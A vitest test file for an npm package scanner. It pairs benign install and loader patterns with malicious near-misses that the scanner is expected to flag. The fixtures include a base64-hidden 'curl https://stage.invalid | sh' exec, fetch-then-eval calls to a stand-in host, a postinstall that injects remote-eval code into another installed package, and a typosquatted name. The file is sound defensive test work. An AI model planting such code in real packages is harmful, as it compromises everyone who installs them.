import { describe, expect, test } from 'vitest';
import { scanPackage } from '../src/scan.js';

/**
 * Habits of packages that everybody has installed, each beside the deed that it is a near miss of. What is told of the
 * honest one may be less, or weigh less; the other must still be looked at by a person.
 */
interface Pair {
  readonly habit: string;
  readonly honest: Readonly<Record<string, string | Uint8Array>>;
  readonly deed: string;
  readonly harmful: Readonly<Record<string, string | Uint8Array>>;
}

const manifest = (fields: Readonly<Record<string, unknown>>): string =>
  JSON.stringify({
    name: 'a',
    version: '1.0.0',
    description: 'Tests what you wrote',
    repository: 'https://git.invalid/a',
    main: 'index.js',
    ...fields,
  });
const ELF = new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0, 0, 0]);

const loader = (address: string): string => `
const { SourceTextModule } = require('vm');
class Loader {
  async compile(url, code) {
    return new SourceTextModule(await code(), { identifier: url, importModuleDynamically: this.load });
  }
  remote(url) { return this.compile(url, () => fetch(${address}).then(answer => answer.text())); }
}
exports.link = (module, host) => module.link(specifier => new Loader().remote(host.where(specifier)));`;

const fromDataAddress = (address: string): string => `
const vm = require('vm');
const { workerData } = require('worker_threads');
function open(url) {
  let [all, type, encoding, data] = url.match(/^data:([^;,]*)(?:;([^,]*))?,(.*)$/) || [];
  if (!all) throw new Error('no data: address');
  if (encoding === 'base64') data = Buffer.from(data, 'base64').toString();
  return { type, data };
}
vm.runInThisContext(open(${address}).data);`;

const PAYLOAD = Buffer.from(`require('child_process').exec('curl -s https://stage.invalid | sh')`).toString('base64');

const installer = (name: string): Pair['honest'] => ({
  'package.json': manifest({ name, scripts: { postinstall: 'node install.js' } }),
  'index.js': `exports.sizes = [${Array.from({ length: 1_500 }, (_, at) => at * at).join(', ')}];`,
  'install.js': `const https = require('https'), fs = require('fs');
const get = url => https.get(url, answer => answer.pipe(fs.createWriteStream('tool.zip')));
if (!process.env.ACMETOOL_SKIP_DOWNLOAD) get(require('./places').base + process.platform + '.zip');`,
  'places.js': `exports.base = process.env.ACMETOOL_MIRROR || require('./index').base;`,
});

const lookUp = (name: string, code: string): string => `
const fs = require('fs');
const main = require.resolve('${name}');
fs.writeFileSync(main, fs.readFileSync(main, 'utf8') + ${JSON.stringify(code)});`;

const pairs: readonly Pair[] = [
  {
    habit: 'a loader of modules fetches what the code it runs imports',
    honest: { 'package.json': manifest({}), 'index.js': loader('url') },
    deed: 'the address stands in the package',
    harmful: { 'package.json': manifest({}), 'index.js': loader(`'https://stage.invalid/next.mjs'`) },
  },
  {
    habit: 'a page asks for the index that its own markup names',
    honest: {
      'package.json': manifest({}),
      'index.js': 'exports.fine = true;',
      'docs/main.js': `$.get($('#search').attr('data-index')).done(source => { eval(source); });`,
    },
    deed: 'it asks somebody else',
    harmful: {
      'package.json': manifest({}),
      'index.js': `const $ = require('jquery');\n$.get('https://stage.invalid/next.js').done(source => { eval(source); });`,
    },
  },
  {
    habit: 'a worker is started from the data: address that its user gave',
    honest: { 'package.json': manifest({}), 'index.js': fromDataAddress('workerData.url') },
    deed: 'the address is brought along',
    harmful: {
      'package.json': manifest({}),
      'index.js': fromDataAddress(`'data:text/javascript;base64,${PAYLOAD}'`),
    },
  },
  {
    habit: 'a script that starts nothing keeps a program of the package when it tidies up',
    honest: {
      'package.json': manifest({ scripts: { postinstall: 'node tidy.js' } }),
      'tidy.js': `const fs = require('fs'), path = require('path');\nconst kept = [path.join('build', 'pty-helper')];\nfor (const file of fs.readdirSync('build')) if (!kept.includes(path.join('build', file))) fs.unlinkSync(path.join('build', file));`,
      'index.js': `exports.open = () => require('child_process').spawn(require('path').join(__dirname, 'prebuilds/pty-helper'));`,
      'prebuilds/pty-helper': ELF,
    },
    deed: 'another script that it loads starts it',
    harmful: {
      'package.json': manifest({ scripts: { postinstall: 'node tidy.js' } }),
      'tidy.js': `const path = require('path');\nrequire('./steps')(path.join(__dirname, 'prebuilds', 'pty-helper'));`,
      'steps.js': `module.exports = path => require('child_process').spawn(path);`,
      'index.js': 'exports.fine = true;',
      'prebuilds/pty-helper': ELF,
    },
  },
  {
    habit: 'an installer fetches what its platform needs, unless its user says otherwise',
    honest: installer('acmetool'),
    deed: 'the variable has the name of the package that the installer was copied from',
    harmful: installer('acmetoo1'),
  },
  {
    habit: 'a tool of its authors was left in a folder that nothing opens',
    honest: {
      'package.json': manifest({ description: 'Draws on paper' }),
      'index.js': 'exports.fine = true;',
      '.tools/releases/manager.cjs': `const { spawn } = require('child_process');\nrequire('https').get(process.argv[2], answer => spawn('tar', ['x']).stdin.end(answer));`,
    },
    deed: 'the package loads it, and it runs what it fetches',
    harmful: {
      'package.json': manifest({ description: 'Draws on paper' }),
      'index.js': `require('./.tools/releases/manager.cjs');`,
      '.tools/releases/manager.cjs': `fetch('https://stage.invalid').then(r => r.text()).then(text => eval(text));`,
    },
  },
  {
    habit: 'an installer looks up its own package, to put a program beside its code',
    honest: {
      'package.json': manifest({ name: 'swiftcut', scripts: { postinstall: 'node install.js' } }),
      'index.js': 'exports.fine = true;',
      'install.js': lookUp('swiftcut', ''),
    },
    deed: 'it looks up another, and leaves code there',
    harmful: {
      'package.json': manifest({ name: 'swiftcut', scripts: { postinstall: 'node install.js' } }),
      'index.js': 'exports.fine = true;',
      'install.js': lookUp('left-pad', `fetch('https://stage.invalid').then(r => r.text()).then(eval)`),
    },
  },
];

describe.each(pairs)('$habit', ({ honest, deed, harmful }) => {
  test('is no alarm', async () => {
    const { verdict, findings } = await scanPackage({ files: honest });
    expect(findings.filter(({ bits }) => bits > 5).map(({ message }) => message)).toEqual([]);
    expect(['clean', 'note']).toContain(verdict);
  });

  test(`but is one where ${deed}`, async () => {
    expect(['suspicious', 'malicious']).toContain((await scanPackage({ files: harmful })).verdict);
  });
});
